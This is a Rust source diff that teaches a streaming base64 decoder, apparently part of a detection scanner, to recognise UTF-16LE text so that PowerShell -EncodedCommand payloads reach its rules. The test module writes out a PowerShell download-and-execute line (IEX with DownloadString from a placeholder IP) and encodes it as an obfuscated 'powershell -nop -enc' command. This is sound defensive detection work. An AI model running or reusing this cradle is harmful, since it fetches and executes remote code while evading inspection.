@@ -9,6 +9,12 @@
 //! is tested from its end, so text whose words are short is skipped a window at a time. A run
 //! shorter than [`MIN_RUN`] is never decoded; its first characters are held in a fixed array
 //! until the run is long enough.
+//!
+//! A run whose first 18 decoded bytes are UTF-16LE text (every second byte zero, an optional
+//! byte-order mark `FF FE`) is handed on as that text with its zero high bytes dropped:
+//! PowerShell's `-EncodedCommand` takes base64 of UTF-16LE, so `IEX (New-Object …)` travels as
+//! `SQBFAFgAIAAoAE4A…`, which no rule would read as bytes. A character outside Latin-1 keeps
+//! both of its bytes.
 
 use super::{hand_on, words, DECODED_PIECE};
 
@@ -69,6 +75,10 @@ pub struct Base64Runs {
     quad: [u8; 4],
     quad_len: usize,
     wrap: Wrap,
+    /// The run decodes to UTF-16LE text: zero high bytes are dropped.
+    utf16: bool,
+    /// The next decoded byte of a UTF-16LE run is a high byte.
+    high: bool,
     scratch: Vec<u8>,
 }
 
@@ -88,6 +98,8 @@ impl Base64Runs {
             quad: [0; 4],
             quad_len: 0,
             wrap: Wrap::None,
+            utf16: false,
+            high: false,
             scratch: Vec::new(),
         }
     }
@@ -142,7 +154,11 @@ impl Base64Runs {
                     if q.contains(&OTHER) {
                         break;
                     }
-                    push_quantum(&mut self.scratch, q);
+                    if self.utf16 {
+                        self.put(&quantum(q));
+                    } else {
+                        push_quantum(&mut self.scratch, q);
+                    }
                     self.run += 4;
                     self.line += 4;
                     i += 4;
@@ -231,14 +247,40 @@ impl Base64Runs {
         self.quad[self.quad_len] = v;
         self.quad_len += 1;
         if self.quad_len == 4 {
-            push_quantum(&mut self.scratch, self.quad);
+            self.put(&quantum(self.quad));
             self.quad_len = 0;
         }
     }
 
+    /// The run reached [`MIN_RUN`]: its held characters are decoded, and their bytes tell
+    /// whether the run is UTF-16LE text.
     fn emit_held(&mut self) {
-        for q in self.held.chunks_exact(4) {
-            push_quantum(&mut self.scratch, [q[0], q[1], q[2], q[3]]);
+        let mut bytes = [0u8; HELD_BYTES];
+        for (q, out) in self.held.chunks_exact(4).zip(bytes.chunks_exact_mut(3)) {
+            out.copy_from_slice(&quantum([q[0], q[1], q[2], q[3]]));
+        }
+        let text = bytes.strip_prefix(&[0xff, 0xfe]).unwrap_or(&bytes);
+        self.utf16 = is_utf16le_text(text);
+        self.high = false;
+        let from = if self.utf16 {
+            HELD_BYTES - text.len()
+        } else {
+            0
+        };
+        self.put(&bytes[from..]);
+    }
+
+    /// Hands on decoded bytes of the run (without the zero high bytes of UTF-16LE text).
+    fn put(&mut self, bytes: &[u8]) {
+        if !self.utf16 {
+            self.scratch.extend_from_slice(bytes);
+            return;
+        }
+        for &b in bytes {
+            if !(self.high && b == 0) {
+                self.scratch.push(b);
+            }
+            self.high = !self.high;
         }
     }
 
@@ -246,14 +288,13 @@ impl Base64Runs {
         if self.run >= MIN_RUN {
             let q = self.quad;
             match self.quad_len {
-                2 => self.scratch.push(q[0] << 2 | q[1] >> 4),
-                3 => self
-                    .scratch
-                    .extend_from_slice(&[q[0] << 2 | q[1] >> 4, q[1] << 4 | q[2] >> 2]),
+                2 => self.put(&[q[0] << 2 | q[1] >> 4]),
+                3 => self.put(&[q[0] << 2 | q[1] >> 4, q[1] << 4 | q[2] >> 2]),
                 _ => {}
             }
             self.scratch.push(b'\n');
         }
+        self.utf16 = false;
         self.run = 0;
         self.line = 0;
         self.quad_len = 0;
@@ -300,12 +341,36 @@ pub fn decode_token(token: &[u8], out: &mut Vec<u8>) -> bool {
     true
 }
 
-fn push_quantum(out: &mut Vec<u8>, q: [u8; 4]) {
-    out.extend_from_slice(&[
+/// Bytes [`MIN_RUN`] characters decode to.
+const HELD_BYTES: usize = MIN_RUN / 4 * 3;
+
+/// The three bytes of a quantum of four values.
+fn quantum(q: [u8; 4]) -> [u8; 3] {
+    [
         q[0] << 2 | q[1] >> 4,
         q[1] << 4 | q[2] >> 2,
         q[2] << 6 | q[3],
-    ]);
+    ]
+}
+
+fn push_quantum(out: &mut Vec<u8>, q: [u8; 4]) {
+    out.extend_from_slice(&quantum(q));
+}
+
+/// Whether `bytes` (whole code units) read as UTF-16LE text: every high byte zero, no NUL
+/// character, and at least half the characters printable ASCII. Random bytes pass with odds
+/// below 2^-64; UTF-8 text never does (it has no zero bytes).
+fn is_utf16le_text(bytes: &[u8]) -> bool {
+    let units = bytes.chunks_exact(2);
+    let count = units.len();
+    let mut printable = 0;
+    for unit in units {
+        if unit[1] != 0 || unit[0] == 0 {
+            return false;
+        }
+        printable += usize::from(unit[0].is_ascii_graphic() || unit[0] == b' ');
+    }
+    count > 0 && printable * 2 >= count
 }
 
 #[cfg(test)]
@@ -403,6 +468,82 @@ mod tests {
                 }
             }
         }
+    }
+
+    /// PowerShell's `-EncodedCommand` form: base64 of UTF-16LE.
+    #[test]
+    fn utf16le_text_is_handed_on_as_text_whatever_the_split() {
+        let command = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')";
+        let wide: Vec<u8> = command.bytes().flat_map(|b| [b, 0]).collect();
+        for (bom, wrap) in [
+            (false, None),
+            (true, None),
+            (false, Some(64)),
+            (true, Some(76)),
+        ] {
+            let mut bytes = if bom { vec![0xff, 0xfe] } else { Vec::new() };
+            bytes.extend_from_slice(&wide);
+            let mut b64 = encode(&bytes);
+            if let Some(width) = wrap {
+                let lines: Vec<String> = b64
+                    .as_bytes()
+                    .chunks(width)
+                    .map(|l| String::from_utf8_lossy(l).into_owned())
+                    .collect();
+                b64 = lines.join("\r\n");
+            }
+            let text = format!("powershell -nop -enc {b64} ; echo");
+            for piece in [1, 3, 4, 7, text.len()] {
+                assert_eq!(
+                    decode_all(text.as_bytes(), piece),
+                    format!("{command}\n").as_bytes(),
+                    "BOM {bom}, wrap {wrap:?}, pieces of {piece}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn other_bytes_are_handed_on_unchanged() {
+        // Zero bytes at every second place but a NUL character, non-zero high bytes (CJK),
+        // and zero bytes that are not every second one: the bytes as they are.
+        for bytes in [
+            b"A\0B\0\0\0C\0D\0E\0F\0G\0H\0I\0J\0".to_vec(),
+            "\u{4f60}\u{597d}\u{4e16}\u{754c}\u{4f60}\u{597d}\u{4e16}\u{754c}\u{4f60}"
+                .encode_utf16()
+                .flat_map(u16::to_le_bytes)
+                .collect(),
+            b"\0A\0B\0C\0D\0E\0F\0G\0H\0I".to_vec(),
+            b"\x01\0\x02\0\x03\0\x04\0\x05\0\x06\0\x07\0\x08\0\x0b\0".to_vec(),
+        ] {
+            let mut expected = bytes.clone();
+            expected.push(b'\n');
+            assert_eq!(
+                decode_all(encode(&bytes).as_bytes(), 5),
+                expected,
+                "{bytes:?}"
+            );
+        }
+    }
+
+    /// Standard base64 with padding, for the tests.
+    fn encode(bytes: &[u8]) -> String {
+        const ALPHABET: &[u8; 64] =
+            b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut out = String::new();
+        for chunk in bytes.chunks(3) {
+            let n = chunk
+                .iter()
+                .enumerate()
+                .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
+            for k in 0..=chunk.len() {
+                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
+            }
+            for _ in chunk.len()..3 {
+                out.push('=');
+            }
+        }
+        out
     }
 
     #[test]
